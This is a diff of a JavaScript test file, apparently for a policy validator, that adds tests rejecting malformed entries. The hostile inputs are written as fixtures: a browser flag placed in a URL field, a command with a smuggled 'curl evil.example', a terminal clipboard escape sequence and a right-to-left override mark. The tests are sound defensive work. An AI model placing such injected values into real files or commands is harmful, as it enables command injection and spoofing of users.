@@ -43,7 +43,37 @@ describe('a broken policy is refused with file, line and key', () => {
       '- id: vulnerability',
       /there is no placeholder \{rpeo\}/,
     ],
-    ['an http address', changed('https://meet', 'http://meet'), 'nothing', /no failure/],
+    ['an http address', changed('https://meet', 'http://meet'), 'url: http://meet', /url: expected an https address/],
+    [
+      'a flag in place of an address',
+      changed('url: "{questions}"', 'url: --load-extension=/tmp/x'),
+      'url: --load-extension',
+      /url: expected an https address/,
+    ],
+    [
+      'an address whose host a placeholder decides',
+      changed('url: "{questions}"', 'url: "https://{repo}/x"'),
+      'url: "https://{repo}',
+      /url: expected an https address/,
+    ],
+    [
+      'a command that runs another program',
+      changed('command: mcp-comms groups', 'command: mcp-comms groups; curl evil.example'),
+      'command: mcp-comms groups; curl',
+      /command: expected a command of mcp-comms/,
+    ],
+    [
+      'an escape sequence',
+      changed('title: Model Context Protocol', 'title: "Model \\e]52;c;eA==\\a Protocol"'),
+      'title: "Model',
+      /title: it holds a control character/,
+    ],
+    [
+      'a mark that turns the text around',
+      changed('title: Working and Interest Groups', 'title: "Working Groups \\u202E"'),
+      'title: "Working Groups',
+      /it holds a control character, or a mark/,
+    ],
     [
       'a date that is none',
       changed('verified: 2026-11-22', 'verified: 2026-13-22'),
